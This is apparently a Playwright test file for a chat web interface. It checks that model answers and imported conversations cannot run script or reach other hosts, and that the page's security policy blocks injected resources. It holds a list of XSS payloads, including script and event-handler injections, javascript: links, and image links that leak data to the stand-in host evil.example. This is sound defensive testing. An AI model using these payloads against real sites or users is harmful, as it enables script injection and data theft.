"""What a model writes may come from anybody: nothing in it acts, and nothing in it reaches another host."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Error, expect

from tests.serve.running import RunningServer, scripted
from tests.ui.browsing import Chat, chat_in

EVIL = "http://evil.example"
HOSTILE = [
    "<script>hurt()</script>",
    f"<script src={EVIL}/a.js></script>",
    f"<img src={EVIL}/a.png onerror=hurt()>",
    "<img src=x onerror=hurt()>",
    "<svg onload=hurt()><script>hurt()</script></svg>",
    "<svg><a xlink:href=javascript:hurt()><text>click</text></a></svg>",
    f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>parent.hurt()</script>'></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    f"<link rel=stylesheet href={EVIL}/a.css><style>@import '{EVIL}/b.css'; body {{ display: none }}</style>",
    f"<form action={EVIL}><input name=a><button>click</button></form>",
    f"<base href={EVIL}/><meta http-equiv=refresh content='0;url={EVIL}'>",
    "<details open ontoggle=hurt()><summary>click</summary></details>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hurt()&gt;'>",
    f"<video poster={EVIL}/p.png src={EVIL}/v.mp4 autoplay onerror=hurt()></video>",
    "<p style='background: url(http://evil.example/s.png)' id=app class=main>styled</p>",
    "[click](javascript:hurt())",
    "[click](JaVaScRiPt&colon;hurt())",
    "[click](\x01javascript:hurt())",
    "[click](data:text/html,<script>hurt()</script>)",
    "[click](vbscript:hurt())",
    "[click][ref]\n\n[ref]: javascript:hurt()",
    "<javascript:hurt()>",
    f"![picture]({EVIL}/leak.png?secret)",
    "![picture](data:image/svg+xml,<svg onload=hurt()>)",
    f"[![picture]({EVIL}/leak.png)](javascript:hurt())",
    '![a" onerror="hurt()](x)',
    '[a](https://ok.example/" onclick="hurt())',
    "```<script>hurt()</script>\n</code></pre><img src=x onerror=hurt()>\n```",
    '```" onclick="hurt()\ncode\n```',
    "$\\href{javascript:hurt()}{click}$ and $\\url{javascript:hurt()}$",
    f"$$\\includegraphics{{{EVIL}/m.png}}$$",
    "$\\htmlData{x=y}{z}$ $\\htmlStyle{color:red}{z}$ $\\htmlId{app}{z}$",
    "$\\def\\a{\\a\\a}\\a$ $\\rule{1000000em}{1000000em}$",
    "<span data-math='block'>\\href{javascript:hurt()}{x}</span>",
    "<think><script>hurt()</script></think><script>hurt()</script>",
    "> " * 3000 + "deep",
    "[" * 5000,
    "$" * 5000 + "\\[" * 5000,
]
ACTIVE = (
    "script, iframe, object, embed, link, style, form, input, base, meta, video, audio, img, [style*=url], "
    ".markdown svg a, .markdown [id], .markdown [onclick], .markdown [onerror], .markdown [onload]"
)
ADDRESSES = "nodes => nodes.map((node) => node.getAttribute('href'))"


def assert_harmless(chat: Chat) -> None:
    """Nothing in the answers can act, and a click on any of it neither."""
    assert chat.answers.locator(ACTIVE).count() == 0
    for address in chat.answers.locator("a").evaluate_all(ADDRESSES):
        assert address.startswith(("http://", "https://", "mailto:")), address
    chat.page.evaluate("document.querySelectorAll('.markdown *:not(a)').forEach((each) => each.click?.())")
    assert chat.page.evaluate("window.hurts") is None
    expect(chat.input).to_be_visible()


@pytest.fixture
def guarded(chat: Chat) -> Chat:
    chat.page.evaluate("void (window.hurt = () => { window.hurts = true; })")
    return chat


def test_hostile_markdown_does_nothing(guarded: Chat) -> None:
    guarded.answer("\n\n".join(HOSTILE[:-3]))
    guarded.say("question")
    expect(guarded.answers.locator("math").first).to_be_attached()
    guarded.page.wait_for_timeout(300)
    assert_harmless(guarded)
    for text in HOSTILE[-3:]:
        guarded.answer(text)
        guarded.say("<script>hurt()</script><img src=x onerror=hurt()>")
        assert_harmless(guarded)
    expect(guarded.page.locator(".bubble").last).to_have_text("<script>hurt()</script><img src=x onerror=hurt()>")
    guarded.open()
    guarded.page.locator(".conversations .title").click()
    assert guarded.answers.locator(ACTIVE).count() == 0


def test_html_is_shown_as_the_text_it_is(guarded: Chat) -> None:
    guarded.answer("use <b>tags</b><br>here: <script>hurt()</script>")
    guarded.say("question")
    expect(guarded.answers).to_have_text("use <b>tags</b>here: <script>hurt()</script>")
    expect(guarded.answers.locator("br")).to_have_count(1)


def test_a_file_with_hostile_conversations(guarded: Chat, tmp_path: Path) -> None:
    evil = "<img src=x onerror=hurt()>"
    message = {"id": "__proto__", "role": "assistant", "content": evil, "model": evil, "thought": evil, "error": evil}
    message |= {"tools": [{"id": evil, "name": evil, "arguments": evil}], "stats": {"tokens": evil, "rate": 1}}
    message |= {"attachments": [{"kind": "image", "name": evil, "type": 'image/svg+xml"', "data": "<svg>"}]}
    conversation = {"id": evil, "title": evil, "messages": [message], "settings": {"model": evil, "temperature": []}}
    file = tmp_path / "evil.json"
    file.write_text(json.dumps({"format": "mistralrs-conversations", "version": 1, "conversations": [conversation]}))
    guarded.page.locator("#import").set_input_files(file)
    guarded.page.locator(".conversations .title").click()
    expect(guarded.page.locator(".failure")).to_have_text(evil)
    expect(guarded.page.locator(".fold").last).to_contain_text(evil)
    assert_harmless(guarded)


def test_the_policy_stops_what_would_get_through(browser: Browser, letters: RunningServer) -> None:
    """The second line: markup that had been let in could not act either."""
    with chat_in(browser, letters.root) as chat:
        failed: list[tuple[str, str | None]] = []
        chat.page.on("requestfailed", lambda request: failed.append((request.url, request.failure)))
        for trick in ("innerHTML = '<b>x</b>'", "setAttribute('onclick', 'hurt()')"):
            with pytest.raises(Error, match="Trusted"):
                chat.page.evaluate(f"document.body.{trick}")
        chat.page.evaluate(
            """() => {
              const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
              add('img', {src: 'http://evil.example/a.png'});
              add('img', {src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw='});
              add('link', {rel: 'stylesheet', href: 'http://evil.example/a.css'});
              add('iframe', {src: 'http://evil.example/'});
              add('p', {}); document.querySelector('body > p').setAttribute('style', 'color: red');
              fetch('http://evil.example/b').catch(() => {});
            }"""
        )
        directives = {"img-src", "style-src-elem", "frame-src", "style-src-attr", "connect-src"}
        chat.wait_until(lambda: set(chat.violations) >= {*directives, "require-trusted-types-for"})
        chat.page.goto("about:blank")  # nothing of this page is still to come
        assert set(chat.violations) == {*directives, "require-trusted-types-for"}
        assert {failure for url, failure in failed if url.startswith(EVIL)} <= {"csp"}
        chat.violations.clear()
        chat.requests.clear()  # those that were stopped on the way


def test_a_key_is_asked_for_and_forgotten_with_the_tab(browser: Browser) -> None:
    with scripted(key="the-key", light=True) as server:
        server.wait_ready()
        with chat_in(browser, server.root) as chat:
            field = chat.page.get_by_label("The server lets in only who has a key.")
            field.fill("wrong")
            chat.button("Use this key").click()
            expect(chat.page.get_by_text("The server did not take this key.")).to_be_visible()
            field.fill("the-key")
            chat.button("Use this key").click()
            expect(chat.page.get_by_role("dialog")).to_have_count(0)
            chat.say("question")
            expect(chat.answers).to_contain_text("abc")
            assert chat.page.evaluate("sessionStorage.length") == 1
            assert "the-key" not in json.dumps(chat.page.evaluate("({...localStorage})"))
            assert "the-key" not in " ".join([*chat.requests, chat.page.content()])
            chat.open()
            expect(chat.page.get_by_label("Model", exact=True)).to_have_value("scripted")
            with chat.page.context.expect_page() as opened:
                chat.page.evaluate("void window.open('./', '_blank', 'noopener')")
            expect(opened.value.get_by_role("dialog", name="API key")).to_be_visible()
